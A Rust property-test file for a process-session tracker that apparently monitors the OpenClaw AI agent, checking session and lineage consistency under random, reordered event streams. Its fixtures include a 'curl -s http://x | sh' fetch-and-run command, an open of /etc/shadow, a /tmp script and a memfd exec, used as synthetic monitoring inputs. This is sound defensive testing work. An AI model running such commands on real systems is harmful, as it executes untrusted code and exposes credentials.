//! Property tests for [`Tracker`]: random, out-of-order event streams over a small pid pool.
//!
//! Streams mix forks, execs (OpenClaw invocations and re-execs, bare shells, runtime workers,
//! the gateway, tools, failed execs), leader and thread exits (with and without
//! `process_gone`), opens and connects. Pids come from a pool of eight, so pid reuse, stale
//! parents and ppid cycles happen; timestamps move forward by random steps, with occasional
//! steps backwards (events reordered across CPUs, or a lost clock). The harness drives the
//! tracker as the pipeline does: [`Tracker::expire`] with the high-water mark of event time
//! before every [`Tracker::observe`].
//!
//! Checked after every step and at the end:
//! * nothing panics;
//! * `process_count()` never exceeds the pids seen, nor those seen and not gone since;
//! * every process's session, and every verdict's session, is an open session;
//! * `lineage(pid, d)` has at most `d + 1` nodes (also on ppid cycles, built explicitly in
//!   [`lineage_terminates_on_ppid_cycles`]);
//! * every session is reported closed exactly once across all `expire` / `close_all` calls,
//!   with the kind it was opened with;
//! * `closed_ns` is not before the session's creation;
//! * after a `process_gone` exit of every pid the table is empty, and `expire(u64::MAX / 2)`
//!   (or `close_all`) leaves no session open.
//!
//! # Issues these tests found (fixed)
//!
//! 1. A leader exit stamped before its session's invocation closed the session before it was
//!    created; the countdown now starts no earlier than the session.
//! 2. A close deadline within the grace period of `u64::MAX` overflowed; it saturates.
//! 3. `lineage` repeated the pids of a ppid cycle (pid reuse) up to the depth limit; it stops
//!    at a revisited pid.

use std::collections::{BTreeMap, HashMap, HashSet};

use proptest::prelude::*;

use super::*;
use crate::event::{Connect, Exit, Fork, Open, SockAddr};

const S: u64 = 1_000_000_000;
const BIN: &str = "/opt/bin";
/// The pid pool: small, so that pids are reused.
const POOL_MIN: u32 = 2;
const POOL_MAX: u32 = 9;
/// Lineage depths checked.
const DEPTHS: [usize; 5] = [0, 1, 2, 6, 40];

#[derive(Clone, Copy, Debug)]
enum ExecKind {
    /// `node /opt/bin/openclaw agent --agent main -m x` (filename `/opt/bin/node`).
    Invocation,
    /// OpenClaw's node re-exec of the same invocation.
    ReExec,
    /// `node /srv/app/node_modules/.bin/openclaw agent …` (project-local install).
    ProjectLocal,
    /// An invocation without its message flag: not a session start.
    NoMessage,
    /// An invocation whose exec failed.
    FailedInvocation,
    /// The long-lived gateway (`openclaw-gatewa` comm).
    Gateway,
    /// A runtime worker (`node /opt/lib/openclaw/dist/process/worker.js`).
    Worker,
    /// `/bin/sh` with no arguments (held back as a pending shell).
    BareShell,
    /// `bash -c …`.
    ShellC,
    /// A plain tool.
    Tool,
    /// A script in /tmp.
    TmpScript,
    /// An exec from a memfd.
    Memfd,
}

#[derive(Clone, Debug)]
enum Op {
    Fork {
        parent: u32,
        child: u32,
    },
    Exec {
        pid: u32,
        ppid: u32,
        kind: ExecKind,
    },
    Exit {
        pid: u32,
        ppid: u32,
        /// A non-leader thread exits (`tid != pid`).
        thread: bool,
        gone: bool,
    },
    Open {
        pid: u32,
        ppid: u32,
    },
    Connect {
        pid: u32,
        ppid: u32,
    },
    Promote(u32),
    /// casa stops (or a replay ends) mid-stream; the stream goes on.
    CloseAll,
}

/// How the clock moves before an event.
#[derive(Clone, Copy, Debug)]
enum Step {
    Forward(u64),
    Backward(u64),
}

fn pid() -> impl Strategy<Value = u32> {
    POOL_MIN..=POOL_MAX
}

/// A parent: a pool pid or init.
fn ppid() -> impl Strategy<Value = u32> {
    prop_oneof![1 => Just(1u32), 6 => pid()]
}

fn exec_kind() -> impl Strategy<Value = ExecKind> {
    prop_oneof![
        4 => Just(ExecKind::Invocation),
        2 => Just(ExecKind::ReExec),
        1 => Just(ExecKind::ProjectLocal),
        1 => Just(ExecKind::NoMessage),
        1 => Just(ExecKind::FailedInvocation),
        2 => Just(ExecKind::Gateway),
        2 => Just(ExecKind::Worker),
        3 => Just(ExecKind::BareShell),
        3 => Just(ExecKind::ShellC),
        3 => Just(ExecKind::Tool),
        1 => Just(ExecKind::TmpScript),
        1 => Just(ExecKind::Memfd),
    ]
}

fn op() -> impl Strategy<Value = Op> {
    prop_oneof![
        6 => (pid(), pid()).prop_map(|(parent, child)| Op::Fork { parent, child }),
        8 => (pid(), ppid(), exec_kind()).prop_map(|(pid, ppid, kind)| Op::Exec { pid, ppid, kind }),
        5 => (pid(), ppid(), any::<bool>(), any::<bool>())
            .prop_map(|(pid, ppid, thread, gone)| Op::Exit { pid, ppid, thread, gone }),
        3 => (pid(), ppid()).prop_map(|(pid, ppid)| Op::Open { pid, ppid }),
        3 => (pid(), ppid()).prop_map(|(pid, ppid)| Op::Connect { pid, ppid }),
        1 => pid().prop_map(Op::Promote),
        1 => Just(Op::CloseAll),
    ]
}

/// Mostly small forward steps; sometimes long ones (idle, max age); sometimes backwards.
/// `max_back`: the longest backward step.
fn step(max_back: u64) -> impl Strategy<Value = Step> {
    prop_oneof![
        20 => (0..3 * S).prop_map(Step::Forward),
        4 => (0..120 * S).prop_map(Step::Forward),
        2 => (0..2 * 3600 * S).prop_map(Step::Forward),
        1 => (0..8 * 3600 * S).prop_map(Step::Forward),
        3 => (0..max_back).prop_map(Step::Backward),
    ]
}

fn timeouts() -> impl Strategy<Value = Timeouts> {
    prop_oneof![
        Just(Timeouts::default()),
        (1..5 * S, 1..20 * S, 10 * S..300 * S, 60 * S..3600 * S).prop_map(
            |(grace_ns, gateway_quiet_ns, idle_ns, max_age_ns)| Timeouts {
                grace_ns,
                gateway_quiet_ns,
                idle_ns,
                max_age_ns,
            }
        ),
    ]
}

fn exec_detail(kind: ExecKind) -> (Detail, &'static str) {
    let node = format!("{BIN}/node");
    let launcher = format!("{BIN}/openclaw");
    let (path, filename, argv, comm, result): (String, String, Vec<String>, &str, i32) = match kind
    {
        ExecKind::Invocation => (
            node.clone(),
            node,
            vec!["node", &launcher, "agent", "--agent", "main", "-m", "x"]
                .into_iter()
                .map(String::from)
                .collect(),
            "node",
            0,
        ),
        ExecKind::ReExec => (
            node.clone(),
            node,
            [
                "node",
                "--disable-warning=ExperimentalWarning",
                &launcher,
                "agent",
                "--agent",
                "main",
                "--message",
                "x",
            ]
            .map(String::from)
            .to_vec(),
            "node",
            0,
        ),
        ExecKind::ProjectLocal => (
            "/usr/bin/node".into(),
            "/usr/bin/node".into(),
            [
                "node",
                "/srv/app/node_modules/.bin/openclaw",
                "agent",
                "--agent",
                "main",
                "-m",
                "x",
            ]
            .map(String::from)
            .to_vec(),
            "node",
            0,
        ),
        ExecKind::NoMessage => (
            node.clone(),
            node,
            ["node", &launcher, "agent", "--agent", "main"]
                .map(String::from)
                .to_vec(),
            "node",
            0,
        ),
        ExecKind::FailedInvocation => (
            node.clone(),
            node,
            ["node", &launcher, "agent", "--agent", "main", "-m", "x"]
                .map(String::from)
                .to_vec(),
            "sh",
            -2,
        ),
        ExecKind::Gateway => (
            node.clone(),
            node,
            ["node", &launcher, "gateway", "run"]
                .map(String::from)
                .to_vec(),
            "openclaw-gatewa",
            0,
        ),
        ExecKind::Worker => (
            node.clone(),
            node,
            ["node", "/opt/lib/openclaw/dist/process/worker.js"]
                .map(String::from)
                .to_vec(),
            "node",
            0,
        ),
        ExecKind::BareShell => (
            "/bin/sh".into(),
            "/bin/sh".into(),
            vec!["/bin/sh".into()],
            "sh",
            0,
        ),
        ExecKind::ShellC => (
            "/usr/bin/bash".into(),
            "/bin/bash".into(),
            ["bash", "-c", "curl -s http://x | sh"]
                .map(String::from)
                .to_vec(),
            "bash",
            0,
        ),
        ExecKind::Tool => (
            "/usr/bin/curl".into(),
            "curl".into(),
            ["curl", "-s", "http://10.0.0.1/"]
                .map(String::from)
                .to_vec(),
            "curl",
            0,
        ),
        ExecKind::TmpScript => (
            "/tmp/update.sh".into(),
            "./update.sh".into(),
            ["/bin/sh", "./update.sh"].map(String::from).to_vec(),
            "update.sh",
            0,
        ),
        ExecKind::Memfd => (
            "/memfd:x (deleted)".into(),
            "/proc/self/fd/3".into(),
            vec!["x".into()],
            "3",
            0,
        ),
    };
    let detail = Detail::Exec(Exec {
        result,
        path: Bytes::from(path.as_str()),
        path_resolved: result == 0,
        script: matches!(kind, ExecKind::TmpScript),
        path_truncated: false,
        filename: Bytes::from(filename.as_str()),
        argv: argv.iter().map(|a| Bytes::from(a.as_str())).collect(),
        argv_truncated: false,
        argv_unreadable: false,
        via_execveat: matches!(kind, ExecKind::Memfd),
        old_tid: 0,
        cap_effective: Some(0),
        seccomp_mode: Some(2),
        no_new_privs: false,
        facts: Default::default(),
    });
    (detail, comm)
}

fn exit_detail(thread: bool, gone: bool) -> Detail {
    Detail::Exit(Exit {
        exit_code: 0,
        status: Some(0),
        signal: None,
        core_dumped: false,
        leader: !thread,
        process_gone: gone,
    })
}

fn open_detail() -> Detail {
    Detail::Open(Open {
        syscall: "openat",
        result: 3,
        flags: 0,
        mode: 0,
        dfd: -100,
        raw_path: Bytes::from("/etc/shadow"),
        path: Some(Bytes::from("/etc/shadow")),
        path_truncated: false,
        raw_unreadable: false,
        facts: Default::default(),
    })
}

fn connect_detail() -> Detail {
    Detail::Connect(Connect {
        result: 0,
        fd: 3,
        addr: SockAddr::Inet {
            addr: "10.0.0.1".parse().expect("address"),
            port: 443,
            v4_mapped: false,
        },
    })
}

/// Drives a tracker and checks it against what it was shown.
struct Harness {
    t: Tracker,
    /// Time of the last event (moves backwards sometimes).
    now: u64,
    /// High-water mark of event time: what the pipeline passes to `expire`.
    clock: u64,
    comm: HashMap<u32, String>,
    /// Pids named by any event (acting pid or forked child).
    seen: HashSet<u32>,
    /// Pids named by an event and not `process_gone` since.
    alive: HashSet<u32>,
    /// Every session seen open: its creation time and kind.
    opened: BTreeMap<SessionId, (u64, &'static str)>,
    closed: BTreeMap<SessionId, Closed>,
    /// The reordering window: an event is never older than the newest one seen by more than
    /// this (`None`: unbounded). Within a window shorter than the shortest close delay,
    /// `closed_ns >= created_ns` is checked too.
    window: Option<u64>,
}

impl Harness {
    fn new(timeouts: Timeouts, start: u64) -> Self {
        Self {
            t: Tracker::new(vec![AgentProfile::openclaw()], timeouts),
            now: start,
            clock: start,
            comm: HashMap::new(),
            seen: HashSet::new(),
            alive: HashSet::new(),
            opened: BTreeMap::new(),
            closed: BTreeMap::new(),
            window: None,
        }
    }

    fn ev(&self, pid: u32, tid: u32, ppid: u32, comm: &str, detail: Detail) -> Event {
        event(self.now, pid, tid, ppid, comm, detail)
    }

    fn comm_of(&self, pid: u32) -> String {
        self.comm.get(&pid).cloned().unwrap_or_else(|| "x".into())
    }

    fn record_closed(&mut self, closed: Vec<Closed>) -> Result<(), TestCaseError> {
        for c in closed {
            let Some(&(created, kind)) = self.opened.get(&c.id) else {
                return Err(TestCaseError::fail(format!(
                    "session {} closed but never seen open: {c:?}",
                    c.id
                )));
            };
            prop_assert!(
                !self.closed.contains_key(&c.id),
                "session {} reported closed twice: {:?} then {c:?}",
                c.id,
                self.closed[&c.id]
            );
            prop_assert_eq!(c.kind, kind, "session {} closed with another kind", c.id);
            if self.window.is_some() {
                prop_assert!(
                    c.closed_ns >= created,
                    "session {} closed at {} before its creation at {created}: {c:?}",
                    c.id,
                    c.closed_ns
                );
            }
            prop_assert!(
                self.t.session(c.id).is_none(),
                "closed session {} still open",
                c.id
            );
            self.closed.insert(c.id, c);
        }
        Ok(())
    }

    /// Checks that hold after every step.
    fn check(&mut self) -> Result<(), TestCaseError> {
        for s in self.t.open_sessions() {
            prop_assert!(
                !self.closed.contains_key(&s.id),
                "session {} is open again after being closed",
                s.id
            );
            let (created, _) = *self
                .opened
                .entry(s.id)
                .or_insert((s.created_ns, kind_name(s.kind)));
            prop_assert_eq!(
                created,
                s.created_ns,
                "session {} changed creation time",
                s.id
            );
        }
        let n = self.t.process_count();
        prop_assert!(
            n <= self.seen.len(),
            "{n} processes tracked, {} pids seen",
            self.seen.len()
        );
        prop_assert!(
            n <= self.alive.len(),
            "{n} processes tracked, {} pids not gone",
            self.alive.len()
        );
        for (pid, p) in &self.t.procs {
            prop_assert!(
                self.alive.contains(pid),
                "pid {pid} tracked after it was gone"
            );
            if let Some(id) = p.session {
                prop_assert!(
                    self.t.sessions.contains_key(&id),
                    "pid {pid} still points at closed session {id}"
                );
            }
        }
        for pid in POOL_MIN - 1..=POOL_MAX {
            for d in DEPTHS {
                let l = self.t.lineage(pid, d);
                prop_assert!(
                    l.len() <= d + 1,
                    "lineage({pid}, {d}) has {} nodes",
                    l.len()
                );
                if let Some(first) = l.first()
                    && !self.t.procs[&pid].transparent
                {
                    prop_assert_eq!(first.pid, pid, "lineage starts with the process itself");
                }
            }
        }
        Ok(())
    }

    fn apply(&mut self, step: Step, op: &Op) -> Result<(), TestCaseError> {
        self.now = match step {
            Step::Forward(d) => self.now + d,
            Step::Backward(d) => {
                let floor = self.window.map_or(0, |w| self.clock.saturating_sub(w));
                self.now.saturating_sub(d).max(floor)
            }
        };
        if let Op::Promote(pid) = op {
            self.t.promote(*pid);
            return self.check();
        }
        if let Op::CloseAll = op {
            let closed = self.t.close_all(self.clock);
            self.record_closed(closed)?;
            prop_assert_eq!(self.t.open_sessions().count(), 0);
            return self.check();
        }
        self.clock = self.clock.max(self.now);
        let closed = self.t.expire(self.clock);
        self.record_closed(closed)?;
        let ev = match *op {
            Op::Fork { parent, child } => {
                self.seen.extend([parent, child]);
                self.alive.extend([parent, child]);
                let comm = self.comm_of(parent);
                self.comm.insert(child, comm.clone());
                self.ev(parent, parent, 1, &comm, fork(child))
            }
            Op::Exec { pid, ppid, kind } => {
                let (detail, comm) = exec_detail(kind);
                let comm = if matches!(kind, ExecKind::FailedInvocation) {
                    self.comm_of(pid)
                } else {
                    comm.to_owned()
                };
                self.comm.insert(pid, comm.clone());
                self.ev(pid, pid, ppid, &comm, detail)
            }
            Op::Exit {
                pid,
                ppid,
                thread,
                gone,
            } => {
                let tid = if thread { pid + 1000 } else { pid };
                self.ev(
                    pid,
                    tid,
                    ppid,
                    &self.comm_of(pid),
                    exit_detail(thread, gone),
                )
            }
            Op::Open { pid, ppid } => self.ev(pid, pid, ppid, &self.comm_of(pid), open_detail()),
            Op::Connect { pid, ppid } => {
                self.ev(pid, pid, ppid, &self.comm_of(pid), connect_detail())
            }
            Op::Promote(_) | Op::CloseAll => unreachable!("handled above"),
        };
        self.observe(&ev)
    }

    fn observe(&mut self, ev: &Event) -> Result<(), TestCaseError> {
        self.seen.insert(ev.pid);
        self.alive.insert(ev.pid);
        let obs = self.t.observe(ev);
        if let Verdict::Session { session, .. } | Verdict::PendingShellExec { session } =
            obs.verdict
        {
            prop_assert!(
                self.t.session(session).is_some(),
                "verdict names session {session}, which is not open: {ev:?}"
            );
        }
        if let Some(id) = obs.started {
            prop_assert!(!self.opened.contains_key(&id), "session id {id} reused");
            let s = self.t.session(id).expect("a started session is open");
            prop_assert_eq!(s.created_ns, ev.ktime_ns);
        }
        if let Detail::Exit(x) = &ev.detail
            && x.process_gone
        {
            self.alive.remove(&ev.pid);
        }
        self.check()
    }

    /// Every pool pid exits for good, then every session is closed.
    fn finish(&mut self, with_close_all: bool) -> Result<(), TestCaseError> {
        for pid in POOL_MIN..=POOL_MAX {
            self.now += 1;
            self.clock = self.clock.max(self.now);
            let closed = self.t.expire(self.clock);
            self.record_closed(closed)?;
            let ev = self.ev(pid, pid, 1, &self.comm_of(pid), exit_detail(false, true));
            self.observe(&ev)?;
        }
        prop_assert_eq!(
            self.t.process_count(),
            0,
            "processes left after every pid exited"
        );
        let closed = if with_close_all {
            self.t.close_all(self.clock)
        } else {
            self.t.expire(u64::MAX / 2)
        };
        self.record_closed(closed)?;
        prop_assert_eq!(self.t.open_sessions().count(), 0, "sessions left open");
        let never_closed: Vec<_> = self
            .opened
            .keys()
            .filter(|id| !self.closed.contains_key(id))
            .collect();
        prop_assert!(
            never_closed.is_empty(),
            "never reported closed: {never_closed:?}"
        );
        Ok(())
    }
}

fn run_stream(
    timeouts: Timeouts,
    stream: &[(Step, Op)],
    with_close_all: bool,
    window: Option<u64>,
) -> Result<(), TestCaseError> {
    let mut h = Harness::new(timeouts, 1000 * S);
    h.window = window;
    for (step, op) in stream {
        h.apply(*step, op)?;
    }
    h.finish(with_close_all)
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 384,
        ..ProptestConfig::default()
    })]

    /// Events reordered within a window shorter than the shortest close delay (grace,
    /// gateway quiet), as across CPUs: every property, including `closed_ns >= created_ns`.
    #[test]
    fn random_streams_keep_the_tracker_consistent(
        timeouts in timeouts(),
        stream in prop::collection::vec((step(S), op()), 0..160),
        with_close_all in any::<bool>(),
    ) {
        let window = timeouts.grace_ns.min(timeouts.gateway_quiet_ns);
        run_stream(timeouts, &stream, with_close_all, Some(window))?;
    }

    /// Backward steps of up to an hour, unbounded in total (a lost clock, a spliced
    /// recording).
    #[test]
    fn random_streams_with_long_backward_steps(
        timeouts in timeouts(),
        stream in prop::collection::vec((step(3600 * S), op()), 0..160),
        with_close_all in any::<bool>(),
    ) {
        run_stream(timeouts, &stream, with_close_all, Some(u64::MAX))?;
    }

    /// Timestamps anywhere in `u64`, jumping back and forth, many near the top.
    #[test]
    fn extreme_timestamps_do_not_panic(
        stream in prop::collection::vec((extreme_time(), op()), 1..80),
    ) {
        let mut t = tracker();
        for (now, op) in &stream {
            t.expire(*now);
            let ev = match *op {
                Op::Exec { pid, ppid, kind } => {
                    let (detail, comm) = exec_detail(kind);
                    event(*now, pid, pid, ppid, comm, detail)
                }
                Op::Fork { parent, child } => event(*now, parent, parent, 1, "x", fork(child)),
                Op::Exit { pid, ppid, thread, gone } => {
                    let tid = if thread { pid + 1000 } else { pid };
                    event(*now, pid, tid, ppid, "x", exit_detail(thread, gone))
                }
                Op::Open { pid, ppid } => event(*now, pid, pid, ppid, "x", open_detail()),
                Op::Connect { pid, ppid } => event(*now, pid, pid, ppid, "x", connect_detail()),
                Op::Promote(pid) => {
                    t.promote(pid);
                    continue;
                }
                Op::CloseAll => {
                    t.close_all(*now);
                    continue;
                }
            };
            t.observe(&ev);
            for pid in POOL_MIN..=POOL_MAX {
                prop_assert!(t.lineage(pid, 6).len() <= 7);
            }
        }
        t.expire(u64::MAX);
        t.close_all(u64::MAX);
        prop_assert_eq!(t.open_sessions().count(), 0);
    }
}

/// Event times anywhere in `u64`, many near the top (close deadlines saturate).
fn extreme_time() -> impl Strategy<Value = u64> {
    let top = u64::MAX;
    prop_oneof![Just(0), 0..=top, (top - 3600 * S)..=top, Just(top)]
}

fn tracker() -> Tracker {
    Tracker::new(vec![AgentProfile::openclaw()], Timeouts::default())
}

fn event(t: u64, pid: u32, tid: u32, ppid: u32, comm: &str, detail: Detail) -> Event {
    Event {
        ktime_ns: t,
        pid,
        tid,
        ppid,
        uid: 65534,
        gid: 65534,
        cgroup_id: 1,
        comm: Bytes::from(comm),
        detail,
    }
}

fn fork(child: u32) -> Detail {
    Detail::Fork(Fork {
        child_pid: child,
        child_tid: child,
    })
}

/// pid reuse makes ppid cycles: A forks B, A is gone, then B forks a child that gets pid A
/// again. `lineage` stays within its depth on the cycle, below it, and on a process that is its
/// own parent.
#[test]
fn lineage_terminates_on_ppid_cycles() {
    const GW: &str = "openclaw-gatewa";
    let (a, b, c) = (20, 21, 22);
    let mut t = tracker();
    // A: the gateway, a runtime root tracked without a session.
    let gateway = || exec_detail(ExecKind::Gateway).0;
    t.observe(&event(S, a, a, 1, GW, gateway()));
    t.observe(&event(S, a, a, 1, GW, fork(b)));
    t.observe(&event(2 * S, a, a, 1, GW, exit_detail(false, true)));
    t.observe(&event(3 * S, b, b, a, GW, fork(a)));
    assert_eq!(t.procs[&a].ppid, b);
    assert_eq!(t.procs[&b].ppid, a, "a two-process ppid cycle");
    // C's parent is on the cycle.
    t.observe(&event(3 * S, a, a, b, GW, fork(c)));
    for d in [0, 1, 2, 5, 6, 100, 10_000] {
        for pid in [a, b, c] {
            let l = t.lineage(pid, d);
            assert!(
                l.len() <= d + 1,
                "lineage({pid}, {d}) has {} nodes",
                l.len()
            );
            assert_eq!(l[0].pid, pid);
        }
    }
    // Each process of the cycle appears once.
    for pid in [a, b, c] {
        let l = t.lineage(pid, 100);
        let mut pids: Vec<u32> = l.iter().map(|n| n.pid).collect();
        pids.sort_unstable();
        pids.dedup();
        assert_eq!(pids.len(), l.len(), "lineage({pid}) repeats a pid: {l:?}");
    }

    // A process that is its own parent (a fork record naming itself as the child).
    let mut t = tracker();
    t.observe(&event(S, a, a, 1, GW, gateway()));
    t.observe(&event(S, a, a, 1, GW, fork(a)));
    assert_eq!(t.procs[&a].ppid, a);
    assert_eq!(t.lineage(a, 1000).len(), 1);
}
